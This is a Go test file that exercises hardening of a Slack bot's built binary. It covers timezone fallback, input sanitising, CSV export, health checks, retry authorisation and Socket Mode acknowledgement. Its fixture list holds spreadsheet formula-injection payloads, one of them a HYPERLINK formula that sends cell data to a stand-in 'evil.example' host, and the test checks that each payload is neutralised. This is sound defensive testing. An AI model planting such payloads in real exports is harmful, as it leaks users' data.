package main

// Issue 8's points so far shown only in-process, shown on the built
// binary: a person's zone when Slack cannot tell it, hostile input, the
// CSV export, /healthz with a failing write, and the "Send again" button.

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/slack-go/slack/slacktest"

	_ "modernc.org/sqlite"

	"github.com/exchangebot/exchangebot/internal/slackfake"
	"github.com/exchangebot/exchangebot/store"
)

// hardDate is a day n days ahead (a day later in any zone).
func hardDate(n int) string { return time.Now().UTC().AddDate(0, 0, n).Format("2006-01-02") }

// hardPress presses a button of the binary as user.
func hardPress(t *testing.T, addr, user, channel, action, value string) int {
	t.Helper()
	payload := fmt.Sprintf(`{"type":"block_actions","user":{"id":%q},"channel":{"id":%q},"trigger_id":"hard-%d",
		"actions":[{"type":"button","action_id":%q,"block_id":"b","value":%q,"action_ts":"1"}]}`,
		user, channel, time.Now().UnixNano(), action, value)
	code, _ := postInteraction(t, addr, payload, 0)
	return code
}

// When users.info fails, the reply to `new` names the zone the time was
// read in; when it hangs, the command is still answered within Slack's 3 s.
func TestBinHardeningZoneUnknown(t *testing.T) {
	p, fake := startWithFake(t)
	cfg, err := LoadConfig(p.cfg, true, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	zone := "I read the time in *" + cfg.Timezone + "*"
	fake.Fail("users.info", 100, "user_not_found")
	code, body := p.command("U7ZONE", `new "Zone failing" `+hardDate(5)+` 15:00 <#C1|general>`)
	if code != 200 || !strings.Contains(body, zone) || !strings.Contains(body, "tz:") {
		t.Fatalf("users.info failing: %d %s", code, body)
	}

	fake.Fail("users.info", 0, "")
	fake.Hang("users.info")
	start := time.Now()
	code, body = p.command("U8ZONE", `new "Zone hanging" `+hardDate(6)+` 15:00 <#C1|general>`)
	took := time.Since(start)
	if code != 200 || took >= 3*time.Second {
		t.Fatalf("users.info hanging: %d after %s: %s", code, took, body)
	}
	if !strings.Contains(body, zone) {
		t.Errorf("users.info hanging: the reply does not name the zone: %s", body)
	}
	t.Logf("users.info hanging: answered in %s: %s", took.Round(time.Millisecond), body)
}

// A link with user info is refused and nothing is stored; control and
// bidi characters are stripped from a title; lessons for a session not
// yet held are refused; the CSV export neutralises formulas.
func TestBinHardeningHostileInput(t *testing.T) {
	p, fake := startWithFake(t)
	code, body := p.command("U1", `new "Linked" `+hardDate(5)+` 15:00 <#C1|general> link:https://user:pass@meet.example/abc`)
	if code != 200 || !strings.Contains(body, "is not a web link") {
		t.Errorf("a link with user info: %d %s", code, body)
	}
	if _, body := p.command("U1", "list"); strings.Contains(body, "Linked") {
		t.Errorf("the refused session was stored: %s", body)
	}
	code, body = p.command("U1", `new "Ti`+"\u202e"+`tle`+"\x07"+`X`+"\u200f"+` Y" `+hardDate(5)+` 15:00 <@U2|ana> <#C1|general>`)
	if code != 200 || !strings.Contains(body, "#1") {
		t.Fatalf("new with control characters: %d %q", code, body)
	}
	_, body = p.command("U1", "show 1")
	if !strings.Contains(body, "TitleX Y") || strings.ContainsAny(body, "\u202e\x07\u200f") {
		t.Errorf("show 1 does not hold the cleaned title: %q", body)
	}

	// The speaker presses "Add lessons" before the session is held.
	if code := hardPress(t, p.addr, "U2", "C1", "capture_lessons", "1"); code != 200 {
		t.Fatalf("capture press: %d", code)
	}
	eph := waitCall(t, fake, "chat.postEphemeral", "the refusal", func(c slackfake.Call) bool { return c.Form.Get("user") == "U2" })
	if !strings.Contains(eph.Form.Get("text"), "has not been held yet") {
		t.Errorf("capture before the session: %q", eph.Form.Get("text"))
	}
	if n := len(fake.Calls("views.open")); n != 0 {
		t.Errorf("the lessons form opened %d times before the session was held", n)
	}
}

// `exchangebot export lessons -format csv` writes a title and an answer
// starting with = + - @ or a tab as text, not formulas.
func TestBinHardeningCSVExport(t *testing.T) {
	bin := binary(t)
	fake := slackfake.New()
	defer fake.Close()
	dir := t.TempDir()
	addr := freePort(t)
	cfgPath, cfg := dlvConfig(t, dir, addr, fake.APIURL(), "")
	st := openTestStore(t, cfg.Database)
	hostile := hardFormulas
	now := time.Now().UTC()
	err := st.Update(context.Background(), func(tx store.Tx) error {
		for i, h := range hostile {
			s := &store.Session{Title: h, Kind: "webinar", Start: now.Add(-48 * time.Hour), Duration: time.Hour, TZ: "UTC",
				Channel: "C1", Creator: "U1", Speakers: []store.Speaker{{UserID: "U2"}}, Created: now, Updated: now}
			if err := tx.CreateSession(context.Background(), s); err != nil {
				return err
			}
			l := store.Lesson{SessionID: s.ID, UserID: "U2", QuestionIdx: 0, Question: "What worked?", Answer: hostile[len(hostile)-1-i]}
			if _, err := tx.SaveAnswer(context.Background(), l, now); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "export", "lessons", "-format", "csv", "-config", cfgPath)
	cmd.Env = cleanEnv()
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	csv := string(out)
	for _, h := range hostile {
		quoted := strings.ReplaceAll("'"+h, `"`, `""`)
		if !strings.Contains(csv, quoted) {
			t.Errorf("the export lacks %q neutralised:\n%s", h, csv)
		}
	}
	hardNoFormulaCells(t, csv)
}

// /healthz checks a write: with another connection holding SQLite's write
// lock, it answers 503 and names the failing part, and 200 once released.
func TestBinHardeningHealthzNamesTheFailingWrite(t *testing.T) {
	firstPassOnly(t) // another connection holding the write lock is SQLite's
	p, _ := startWithFake(t)
	db, err := sql.Open("sqlite", databaseOf(t, p.cfg))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	conn, err := db.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.ExecContext(context.Background(), "BEGIN IMMEDIATE"); err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Timeout: 20 * time.Second}
	resp, err := client.Get("http://" + p.addr + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	body := readAll(resp)
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body, "database write: failed") || !strings.Contains(body, "database read: ok") {
		t.Errorf("healthz with the write lock held: %d %q", resp.StatusCode, body)
	}
	if _, err := conn.ExecContext(context.Background(), "ROLLBACK"); err != nil {
		t.Fatal(err)
	}
	waitHealthy(t, "http://"+p.addr)
	t.Logf("healthz with the write lock held: %d %q", resp.StatusCode, body)
}

// readAll reads and closes a response's body.
func readAll(resp *http.Response) string {
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

// The creator's note about an announcement Slack refused for good carries
// "Send again": someone else's press is refused and sends nothing; the
// creator's press, once the channel is back, sends it once, and a second
// press sends nothing more.
func TestBinHardeningRetryButton(t *testing.T) {
	bin := binary(t)
	fake := slackfake.New()
	defer fake.Close()
	dir := t.TempDir()
	addr := freePort(t)
	// With no staff list everyone is staff, and staff may retry anything:
	// only the creator is.
	cfgPath, cfg := writeLoadedConfig(t, dir, addr, fake.APIURL(), "staff: [\"U9BOSS\"]\n")
	fake.FailChannel("CGONE", "channel_not_found")
	dlvSchedule(t, cfg, &store.Session{Title: "Gone", Kind: "webinar", Start: time.Now().Add(72 * time.Hour), Duration: time.Hour,
		TZ: "UTC", Channel: "CGONE", Creator: "U9BOSS"})
	log := &syncBuffer{}
	p := dlvServe(t, bin, cfgPath, addr, log)
	note := waitCall(t, fake, "chat.postMessage", "the creator's note", func(c slackfake.Call) bool {
		return c.Form.Get("channel") == "DU9BOSS" && c.Error == "" && strings.Contains(c.Form.Get("blocks"), "retry_delivery")
	})
	value := hardButtonValue(t, note.Form.Get("blocks"), "retry_delivery")
	posted := func() int {
		n := 0
		for _, c := range fake.Calls("chat.postMessage") {
			if c.Form.Get("channel") == "CGONE" && c.Error == "" {
				n++
			}
		}
		return n
	}
	fake.FixChannel("CGONE")

	if code := hardPress(t, addr, "U5OTHER", "DU5OTHER", "retry_delivery", value); code != 200 {
		t.Fatalf("someone else's press: %d", code)
	}
	refusal := waitCall(t, fake, "chat.postEphemeral", "the refusal", func(c slackfake.Call) bool { return c.Form.Get("user") == "U5OTHER" })
	time.Sleep(2 * time.Second) // room for a wrongly requeued announcement to go out
	if n := posted(); n != 0 {
		t.Fatalf("someone else's press sent the announcement %d times (told %q)", n, refusal.Form.Get("text"))
	}

	if code := hardPress(t, addr, "U9BOSS", "DU9BOSS", "retry_delivery", value); code != 200 {
		t.Fatalf("the creator's press: %d", code)
	}
	waitUntil(t, 30*time.Second, "the announcement sent again", log, func() bool { return posted() == 1 })
	if code := hardPress(t, addr, "U9BOSS", "DU9BOSS", "retry_delivery", value); code != 200 {
		t.Fatalf("the creator's second press: %d", code)
	}
	waitCall(t, fake, "chat.postEphemeral", "the answer to the second press", func(c slackfake.Call) bool {
		return c.Form.Get("user") == "U9BOSS" && len(fake.Calls("chat.postEphemeral")) >= 3
	})
	time.Sleep(2 * time.Second) // room for a second send, if one were owed
	if n := posted(); n != 1 {
		t.Errorf("the announcement went out %d times, want once", n)
	}
	var told []string
	for _, c := range fake.Calls("chat.postEphemeral") {
		told = append(told, c.Form.Get("user")+": "+c.Form.Get("text"))
	}
	t.Logf("told: %q", told)
	p.stop(t)
}

func hardButtonValue(t *testing.T, blocks, action string) string {
	t.Helper()
	var bs []struct {
		Elements []struct {
			ActionID string `json:"action_id"`
			Value    string `json:"value"`
		} `json:"elements"`
	}
	if err := json.Unmarshal([]byte(blocks), &bs); err != nil {
		t.Fatal(err)
	}
	for _, b := range bs {
		for _, el := range b.Elements {
			if el.ActionID == action {
				return el.Value
			}
		}
	}
	t.Fatalf("no %s button in %s", action, blocks)
	return ""
}

// hardReplies records what the binary posts to commands' response_urls.
type hardReplies struct {
	mu     sync.Mutex
	bodies []string
}

func (r *hardReplies) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	var msg struct {
		Text string `json:"text"`
	}
	b, _ := io.ReadAll(req.Body)
	json.Unmarshal(b, &msg)
	r.mu.Lock()
	r.bodies = append(r.bodies, msg.Text)
	r.mu.Unlock()
}

func (r *hardReplies) all() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.bodies...)
}

// The binary in Socket Mode (slack.app_token, slack.api_url at slack-go's
// test server): 10 commands arriving together while users.info takes 2 s
// are all acknowledged within 1 s, and each is scheduled.
func TestBinHardeningSocketModeAcksAtOnce(t *testing.T) {
	const n = 10
	bin := binary(t)
	ws := slacktest.NewTestServer(func(c slacktest.Customize) {
		c.Handle("/users.info", func(w http.ResponseWriter, r *http.Request) {
			time.Sleep(2 * time.Second)
			r.ParseForm()
			fmt.Fprintf(w, `{"ok":true,"user":{"id":%q,"name":"x","tz":"Europe/Madrid"}}`, r.Form.Get("user"))
		})
	})
	ws.Start()
	drained := make(chan struct{})
	go func() { // slacktest stops reading the websocket while nobody takes its feed
		for {
			select {
			case <-ws.SeenFeed:
			case <-drained:
				return
			}
		}
	}()
	rec := &hardReplies{}
	replies := httptest.NewServer(rec)
	dir := t.TempDir()
	addr := freePort(t)
	cfgPath := filepath.Join(dir, "config.yaml")
	cfg := fmt.Sprintf("listen: %q\nbase_url: \"http://%s\"\ndatabase: %q\nslack:\n  bot_token: \"xoxb-e2e\"\n  app_token: \"xapp-1-e2e\"\n  api_url: %q\n",
		addr, addr, testDatabase(t, dir, "socket.db"), ws.GetAPIURL())
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	log := &syncBuffer{}
	p := dlvServe(t, bin, cfgPath, addr, log)
	t.Cleanup(func() { // after the binary has stopped (cleanups run last first)
		replies.Close()
		close(drained)
		ws.Stop()
	})
	if !strings.Contains(log.String(), `slack=socket`) {
		t.Fatalf("the binary is not in Socket Mode:\n%s", log.String())
	}
	envelope := func(id, user, text string) string {
		payload, _ := json.Marshal(map[string]string{
			"command": "/exchange", "text": text, "user_id": user, "channel_id": "C1", "team_id": "T1",
			"trigger_id": "trigger-" + id, "response_url": replies.URL + "/" + id,
		})
		env, _ := json.Marshal(map[string]any{
			"envelope_id": id, "type": "slash_commands", "payload": json.RawMessage(payload), "accepts_response_payload": true,
		})
		return string(env)
	}
	ackedAt := func(ids ...string) map[string]bool {
		got := map[string]bool{}
		for _, m := range ws.GetSeenInboundMessages() {
			var ack struct {
				EnvelopeID string `json:"envelope_id"`
			}
			if json.Unmarshal([]byte(m), &ack) == nil && slices.Contains(ids, ack.EnvelopeID) {
				got[ack.EnvelopeID] = true
			}
		}
		return got
	}
	// Connected once a help command is acknowledged.
	warm := envelope("warm-up", "U0", "help")
	for deadline := time.Now().Add(30 * time.Second); !ackedAt("warm-up")["warm-up"]; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("not connected; seen %v\n%s", ws.GetSeenInboundMessages(), log.String())
		}
		ws.SendToWebsocket(warm)
	}
	waitUntil(t, 30*time.Second, "the help reply", log, func() bool { return len(rec.all()) >= 1 })
	before := len(rec.all())

	ids := make([]string, n)
	envs := make([]string, n)
	for i := range n {
		ids[i] = fmt.Sprintf("cmd-%d", i)
		envs[i] = envelope(ids[i], fmt.Sprintf("U%dSOCK", 10+i), fmt.Sprintf(`new "Socket %d" %s 10:00 <#C1|general>`, i, hardDate(3)))
	}
	sent := time.Now()
	for _, env := range envs {
		ws.SendToWebsocket(env)
	}
	at := map[string]time.Duration{}
	for len(at) < n && time.Since(sent) < 30*time.Second {
		for id := range ackedAt(ids...) {
			if _, ok := at[id]; !ok {
				at[id] = time.Since(sent)
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	var slowest time.Duration
	for _, id := range ids {
		d, ok := at[id]
		if !ok {
			t.Fatalf("%s never acknowledged; acked: %v", id, at)
		}
		slowest = max(slowest, d)
	}
	waitUntil(t, 60*time.Second, "every reply", log, func() bool { return len(rec.all()) >= before+n })
	repliedIn := time.Since(sent)
	t.Logf("%d commands with a 2 s users.info over Socket Mode to the binary: slowest ack %s; all replies in %s",
		n, slowest.Round(time.Millisecond), repliedIn.Round(time.Millisecond))
	t.Logf("a reply: %q", rec.all()[before])
	if slowest > time.Second {
		t.Errorf("slowest ack %s after sending, want within 1 s", slowest)
	}
	scheduled := 0
	for _, r := range rec.all() {
		if strings.HasPrefix(r, "Scheduled") {
			scheduled++
		}
	}
	if scheduled != n {
		t.Errorf("%d replies say Scheduled, want %d: %q", scheduled, n, rec.all())
	}
	p.stop(t)
}

// /report.csv, signed in through the fake's Sign in with Slack, writes
// partner names starting with = + - @ or a tab as text, not formulas.
func TestBinHardeningReportCSV(t *testing.T) {
	fake := slackfake.New()
	t.Cleanup(fake.Close)
	fake.SetOpenIDClient("cid", "csecret")
	fake.AddIdentity("good-code", slackfake.Identity{UserID: "U1", TeamID: "T1", Name: "Ana"})
	fake.SignInAs("good-code")
	dir := t.TempDir()
	addr := freePort(t)
	cfgPath := writeConfig(t, dir, addr, fake.APIURL(), `web:
  client_id: "cid"
  client_secret: "csecret"
  session_key: "a-session-key-of-at-least-32-characters"
`)
	st := openTestStore(t, databaseOf(t, cfgPath))
	hostile := hardFormulas
	now := time.Now().UTC()
	err := st.Update(context.Background(), func(tx store.Tx) error {
		for _, h := range hostile {
			s := &store.Session{Title: "Held " + h, Kind: "webinar", Start: now.Add(-48 * time.Hour), Duration: time.Hour, TZ: "UTC",
				Channel: "C1", Creator: "U1", Partners: []string{h}, Created: now, Updated: now}
			if err := tx.CreateSession(context.Background(), s); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	p := startServe(t, dir, cfgPath, addr)
	jar, _ := cookiejar.New(nil)
	client := &http.Client{Jar: jar, Timeout: 20 * time.Second}
	resp, err := client.Get("http://" + p.addr + "/login")
	if err != nil {
		t.Fatal(err)
	}
	readAll(resp)
	resp, err = client.Get("http://" + p.addr + "/report.csv")
	if err != nil {
		t.Fatal(err)
	}
	csv := readAll(resp)
	if resp.StatusCode != 200 || !strings.HasPrefix(csv, "figure,label,value") {
		t.Fatalf("/report.csv: %d %q", resp.StatusCode, csv)
	}
	for _, h := range hostile {
		if !strings.Contains(csv, "held_by_partner,"+csvField("'"+h)+",1") {
			t.Errorf("/report.csv lacks the partner %q neutralised:\n%s", h, csv)
		}
	}
	hardNoFormulaCells(t, csv)
}

// hardFormulas are texts a spreadsheet would run were they written as
// they are.
var hardFormulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}

// hardNoFormulaCells fails the test for every cell of csv a spreadsheet
// would run.
func hardNoFormulaCells(t *testing.T, csv string) {
	t.Helper()
	for _, line := range strings.Split(csv, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
				t.Errorf("a cell a spreadsheet would run: %q in %q", cell, line)
			}
		}
	}
}

// csvField is s as encoding/csv writes it.
func csvField(s string) string {
	if strings.ContainsAny(s, "\",\r\n") || strings.HasPrefix(s, " ") || strings.HasPrefix(s, "\t") {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}
